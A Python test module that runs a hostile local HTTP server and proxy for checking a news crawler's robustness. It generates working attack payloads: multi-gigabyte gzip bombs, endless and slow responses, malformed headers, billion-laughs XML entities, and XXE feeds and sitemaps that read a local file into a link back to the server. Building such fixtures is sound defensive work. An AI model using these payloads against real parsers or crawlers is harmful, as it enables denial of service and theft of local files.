"""A hostile HTTP server on 127.0.0.1: per-host, per-path behaviours a crawler must survive.

Every behaviour writes raw bytes to the socket, so it can break HTTP itself (bad Content-Length,
endless chunking, one byte a second). Large bodies are generated while sending, never held in
memory: a gzip bomb of many gigabytes costs the server one 1 MB block of zeros.

The server also acts as a plain HTTP proxy: an absolute-form request line (`GET http://a.test/x`)
is routed by that host, so a unit registry can name sites like http://bomb.hostile.test/ and the
crawler reach them all through `proxy=server.url`. Each request is logged (host, path, bytes sent,
whether the client hung up first), so a test can assert a host was never contacted.

    with HostileServer() as srv:
        srv.route("/feed.xml", billion_laughs_feed(), host="a.hostile.test")
        ... crawl with proxy=srv.url ...
        assert not srv.hits(host="127.0.0.1:9")
"""
from __future__ import annotations

import html
import socket
import socketserver
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

MB = 1 << 20
GB = 1 << 30


@dataclass
class Req:
    method: str
    target: str
    host: str          # host[:port] as the client named it (absolute URI, else the Host header)
    path: str          # path without the query
    query: str
    headers: dict[str, str]
    server: HostileServer


@dataclass
class Hit:
    method: str
    host: str
    path: str
    started: float
    bytes_sent: int = 0
    aborted: bool = False   # the client hung up (or the server was stopped) before the end
    finished: float | None = None


class Writer:
    """The socket, counting bytes and stopping when the server stops."""

    def __init__(self, sock: socket.socket, hit: Hit, stop: threading.Event):
        self.sock, self.hit, self.stop = sock, hit, stop

    def send(self, data: bytes) -> None:
        if self.stop.is_set():
            raise ConnectionAbortedError("server stopping")
        self.sock.sendall(data)
        self.hit.bytes_sent += len(data)

    def head(self, status: str = "200 OK", headers: list[tuple[str, str]] | None = None) -> None:
        lines = [f"HTTP/1.1 {status}"] + [f"{k}: {v}" for k, v in (headers or [])] + ["Connection: close", "", ""]
        self.send("\r\n".join(lines).encode("latin-1"))


Behaviour = Callable[[Req, Writer], None]


class HostileServer:
    """Threaded raw-socket HTTP server; routes are (host or None, path) -> behaviour."""

    def __init__(self, port: int = 0):
        self.routes: dict[tuple[str | None, str], Behaviour] = {}
        self.log: list[Hit] = []
        self._lock = threading.Lock()
        self._stop = threading.Event()
        outer = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                outer._handle(self.request)

        class Server(socketserver.ThreadingTCPServer):
            daemon_threads = True
            allow_reuse_address = True
            request_queue_size = 128

        self._server = Server(("127.0.0.1", port), Handler)
        self.port = self._server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    # ---- lifecycle
    def start(self) -> HostileServer:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._server.shutdown()
        self._server.server_close()

    def __enter__(self) -> HostileServer:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    # ---- routes and log
    def route(self, path: str, behaviour: Behaviour, host: str | None = None) -> HostileServer:
        self.routes[(host.lower() if host else None, path)] = behaviour
        return self

    def hits(self, host: str | None = None, path: str | None = None) -> list[Hit]:
        with self._lock:
            return [h for h in self.log if (host is None or h.host == host) and (path is None or h.path == path)]

    def hosts(self) -> set[str]:
        with self._lock:
            return {h.host for h in self.log}

    # ---- serving
    def _handle(self, sock: socket.socket) -> None:
        sock.settimeout(60)
        try:
            req = self._read_request(sock)
        except (OSError, ValueError):
            return
        if req is None:
            return
        hit = Hit(req.method, req.host, req.path, time.monotonic())
        with self._lock:
            self.log.append(hit)
        w = Writer(sock, hit, self._stop)
        beh = self.routes.get((req.host.lower(), req.path)) or self.routes.get((None, req.path))
        try:
            if req.method == "CONNECT":
                w.head("405 Method Not Allowed", [("Content-Length", "0")])
            elif beh is None:
                w.head("404 Not Found", [("Content-Type", "text/plain"), ("Content-Length", "9")])
                w.send(b"not found")
            else:
                beh(req, w)
        except (OSError, ConnectionError):
            hit.aborted = True
        finally:
            hit.finished = time.monotonic()
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def _read_request(self, sock: socket.socket) -> Req | None:
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = sock.recv(65536)
            if not chunk:
                return None
            data += chunk
            if len(data) > 256 * 1024:
                raise ValueError("request head too large")
        head = data.split(b"\r\n\r\n", 1)[0].decode("latin-1")
        lines = head.split("\r\n")
        method, target, _ = (lines[0].split(" ", 2) + ["", ""])[:3]
        headers = {}
        for ln in lines[1:]:
            if ":" in ln:
                k, v = ln.split(":", 1)
                headers[k.strip().lower()] = v.strip()
        if target.lower().startswith(("http://", "https://")):
            parts = urlsplit(target)
            host, path, query = parts.netloc, parts.path or "/", parts.query
        else:
            host = headers.get("host", f"127.0.0.1:{self.port}")
            path, _, query = target.partition("?")
        host = host.lower()
        if host.endswith(":80"):
            host = host[:-3]
        return Req(method, target, host, path, query, headers, self)


# ---------------------------------------------------------------------------------------------------
# Behaviours. Each factory returns a callable(req, writer).

def page(body: bytes | str, content_type: str = "text/html; charset=utf-8", status: str = "200 OK",
         headers: list[tuple[str, str]] | None = None) -> Behaviour:
    """A normal, well-formed response."""
    raw = body.encode("utf-8") if isinstance(body, str) else body

    def run(req: Req, w: Writer) -> None:
        w.head(status, [("Content-Type", content_type), ("Content-Length", str(len(raw)))] + (headers or []))
        if req.method != "HEAD":
            w.send(raw)
    return run


def redirect(location: str | Callable[[Req], str], status: str = "302 Found") -> Behaviour:
    def run(req: Req, w: Writer) -> None:
        loc = location(req) if callable(location) else location
        w.head(status, [("Location", loc), ("Content-Length", "0")])
    return run


def redirect_chain(server: HostileServer, prefix: str, length: int, final: Behaviour, host: str | None = None) -> str:
    """Routes prefix/0 -> prefix/1 -> ... -> prefix/length (final). Returns the first path."""
    for i in range(length):
        server.route(f"{prefix}/{i}", redirect(f"{prefix}/{i + 1}"), host=host)
    server.route(f"{prefix}/{length}", final, host=host)
    return f"{prefix}/0"


def redirect_loop(server: HostileServer, prefix: str, host: str | None = None) -> str:
    server.route(f"{prefix}/a", redirect(f"{prefix}/b"), host=host)
    server.route(f"{prefix}/b", redirect(f"{prefix}/a"), host=host)
    return f"{prefix}/a"


def _zero_block() -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(bytes(MB)) + c.flush(zlib.Z_FULL_FLUSH)


_GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
_FINAL_EMPTY_BLOCK = b"\x03\x00"  # a final, empty fixed-Huffman deflate block (stream is byte-aligned)


def gzip_bomb(inflated: int = 4 * GB, content_type: str = "text/html; charset=utf-8",
              encoding_header: bool = True) -> Behaviour:
    """A valid gzip stream of `inflated` zero bytes, ~1/1000 of that on the wire, made while sending.

    With encoding_header, sent as Content-Encoding: gzip (the client inflates it); without, as a
    .gz body (a sitemap.xml.gz, say) the client may choose to inflate.
    """
    block = _zero_block()
    n = max(1, inflated // MB)

    def run(req: Req, w: Writer) -> None:
        length = len(_GZIP_HEADER) + n * len(block) + len(_FINAL_EMPTY_BLOCK) + 8
        hdrs = [("Content-Type", content_type), ("Content-Length", str(length))]
        if encoding_header:
            hdrs.append(("Content-Encoding", "gzip"))
        w.head("200 OK", hdrs)
        w.send(_GZIP_HEADER)
        crc = 0
        zeros = bytes(MB)
        for _ in range(n):
            w.send(block)
            if n <= 64:  # an exact CRC only matters to a client that reads a small bomb to its end
                crc = zlib.crc32(zeros, crc)
        w.send(_FINAL_EMPTY_BLOCK + struct.pack("<II", crc & 0xFFFFFFFF, (n * MB) & 0xFFFFFFFF))
    return run


def _chunk(data: bytes) -> bytes:
    return f"{len(data):x}\r\n".encode() + data + b"\r\n"


def endless_chunked(content_type: str = "text/html; charset=utf-8", piece: bytes | None = None,
                    limit: int | None = None) -> Behaviour:
    """Transfer-Encoding: chunked that never ends (or ends after `limit` bytes)."""
    piece = piece or (b"<p>" + "Tin tức ".encode() * 2000 + b"</p>\n")

    def run(req: Req, w: Writer) -> None:
        w.head("200 OK", [("Content-Type", content_type), ("Transfer-Encoding", "chunked")])
        w.send(_chunk(b"<!doctype html><html><head><title>endless</title></head><body>"))
        sent = 0
        while limit is None or sent < limit:
            w.send(_chunk(piece))
            sent += len(piece)
        w.send(b"0\r\n\r\n")
    return run


def enormous(size: int = 2 * GB, content_type: str = "text/html; charset=utf-8") -> Behaviour:
    """An honest Content-Length of `size` bytes, generated while sending."""
    piece = b"<p>" + b"x" * (MB - 8) + b"</p>\n"

    def run(req: Req, w: Writer) -> None:
        w.head("200 OK", [("Content-Type", content_type), ("Content-Length", str(size))])
        left = size
        while left > 0:
            part = piece[:left]
            w.send(part)
            left -= len(part)
    return run


def many_links(count: int = 3_000_000, href: str = "/tin-tuc/bai-{i}.html", chunked: bool = True) -> Behaviour:
    """One HTML page holding `count` article-looking links, streamed in chunks."""
    def run(req: Req, w: Writer) -> None:
        w.head("200 OK", [("Content-Type", "text/html; charset=utf-8"), ("Transfer-Encoding", "chunked")])
        w.send(_chunk(b"<!doctype html><html><head><title>links</title></head><body><ul>"))
        batch = []
        for i in range(count):
            batch.append(f'<li><a href="{href.format(i=i)}">Bài {i}</a></li>')
            if len(batch) == 5000:
                w.send(_chunk("".join(batch).encode()))
                batch = []
        if batch:
            w.send(_chunk("".join(batch).encode()))
        w.send(_chunk(b"</ul></body></html>"))
        w.send(b"0\r\n\r\n")
    return run


def slow_drip(interval: float = 1.0, total: int = 10_000, header_first: bool = True) -> Behaviour:
    """One byte every `interval` seconds (headers too, unless header_first)."""
    body = (b"<html><body>" + b"x" * total)[:total]

    def run(req: Req, w: Writer) -> None:
        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {total}\r\nConnection: close\r\n\r\n".encode()
        if header_first:
            w.send(head)
        else:
            for b in head:
                w.send(bytes([b]))
                time.sleep(interval)
        for b in body:
            w.send(bytes([b]))
            time.sleep(interval)
    return run


def raw(data: bytes, close: bool = True) -> Behaviour:
    """Exactly these bytes, whatever they are (malformed HTTP)."""
    def run(req: Req, w: Writer) -> None:
        w.send(data)
        if not close:
            time.sleep(3600)
    return run


def bad_content_length(kind: str) -> Behaviour:
    """'short': CL promises more than is sent, then the socket closes. 'long': more sent than CL says.
    'nonnumeric': CL is not a number. 'conflict': two different CL headers. 'negative': CL is -1."""
    body = b"<html><body><p>" + "Nội dung ".encode() * 50 + b"</p></body></html>"
    cl = {"short": str(len(body) * 10), "long": str(len(body) // 3), "nonnumeric": "abc",
          "negative": "-1", "conflict": None}[kind]
    if kind == "conflict":
        hdr = f"Content-Length: {len(body)}\r\nContent-Length: {len(body) * 2}\r\n"
    else:
        hdr = f"Content-Length: {cl}\r\n"
    head = ("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n" + hdr + "Connection: close\r\n\r\n").encode()
    return raw(head + body)


# ---- feeds and sitemaps with entity tricks

BILLION_LAUGHS_DTD = """<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"""


def rss(items: list[tuple[str, str]], doctype: str = "", title: str = "Tin tức", extra_item: str = "") -> bytes:
    """An RSS 2.0 document; items are (title, link)."""
    body = "".join(f"<item><title>{html.escape(t)}</title><link>{html.escape(u)}</link>"
                   f"<pubDate>Mon, 24 May 2021 08:00:00 +0700</pubDate></item>" for t, u in items)
    return (f'<?xml version="1.0" encoding="utf-8"?>\n{doctype}\n<rss version="2.0"><channel>'
            f"<title>{title}</title><link>http://example.invalid/</link><description>d</description>"
            f"{extra_item}{body}</channel></rss>").encode()


def billion_laughs_rss(host: str = "example.invalid") -> bytes:
    """Entities expanding to ~3 GB, in the title and in an article link on the unit's own host."""
    return rss([], BILLION_LAUGHS_DTD, title="&lol9;",
               extra_item=f"<item><title>&lol9;</title><link>http://{host}/tin-tuc/&lol9;-1000.html</link></item>")


def xxe_rss(secret_path: str, host: str = "example.invalid") -> bytes:
    """An external entity reading a local file, placed in an article link on the unit's own host: a
    parser that resolves it would make the crawler send the file's content back to this server."""
    dtd = f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{secret_path}">]>'
    return rss([], dtd, title="&xxe;",
               extra_item=f"<item><title>&xxe;</title><link>http://{host}/tin-tuc/&xxe;-1000.html</link>"
                          "<description>&xxe;</description></item>")


def sitemap(urls: list[str], doctype: str = "", extra: str = "") -> bytes:
    body = "".join(f"<url><loc>{html.escape(u)}</loc><lastmod>2021-05-24</lastmod></url>" for u in urls)
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n'
            f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{extra}{body}</urlset>').encode()


def billion_laughs_sitemap(host: str = "example.invalid") -> bytes:
    return sitemap([], BILLION_LAUGHS_DTD, extra=f"<url><loc>http://{host}/tin-tuc/&lol9;-1000.html</loc></url>")


def xxe_sitemap(secret_path: str, host: str = "example.invalid") -> bytes:
    dtd = f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{secret_path}">]>'
    return sitemap([], dtd, extra=f"<url><loc>http://{host}/tin-tuc/&xxe;-1000.html</loc></url>")


# ---- a healthy site, to show other sources keep working

def article_html(title: str, text: str, published: str = "24/05/2021 08:00") -> str:
    return (f"<!doctype html><html lang='vi'><head><meta charset='utf-8'><title>{html.escape(title)}</title></head>"
            f"<body><article><h1>{html.escape(title)}</h1><div class='date'>{published}</div>"
            f"<div class='content'><p>{html.escape(text)}</p></div></article></body></html>")


def healthy_site(server: HostileServer, host: str | None, n_articles: int = 3, prefix: str = "/tin-tuc",
                 extra_links: str = "") -> list[str]:
    """A home page listing n articles (plus extra_links HTML); returns the article paths."""
    paths = [f"{prefix}/bai-viet-{i}-{1000 + i}.html" for i in range(n_articles)]
    links = "".join(f'<li><a href="{p}">Bài viết số {i}</a></li>' for i, p in enumerate(paths))
    home = (f"<!doctype html><html lang='vi'><head><meta charset='utf-8'><title>Trang chủ</title></head><body>"
            f"<nav><ul><li><a href='{prefix}'>Tin tức</a></li></ul></nav><ul class='news'>{extra_links}{links}</ul>"
            f"</body></html>")
    server.route("/", page(home), host=host)
    server.route(prefix, page(home), host=host)
    for i, p in enumerate(paths):
        server.route(p, page(article_html(f"Bài viết số {i} về Nghị quyết", "Nội dung bài viết. " * 40)), host=host)
    return paths


def iter_gzip_bomb_bytes(inflated: int) -> Iterator[bytes]:
    """The bomb's body, for feeding a decompressor directly in tests."""
    block = _zero_block()
    yield _GZIP_HEADER
    for _ in range(max(1, inflated // MB)):
        yield block
    yield _FINAL_EMPTY_BLOCK + struct.pack("<II", 0, 0)


@dataclass
class Site:
    """A host served by a HostileServer through its proxy role."""
    host: str
    paths: list[str] = field(default_factory=list)

    @property
    def base(self) -> str:
        return f"http://{self.host}"
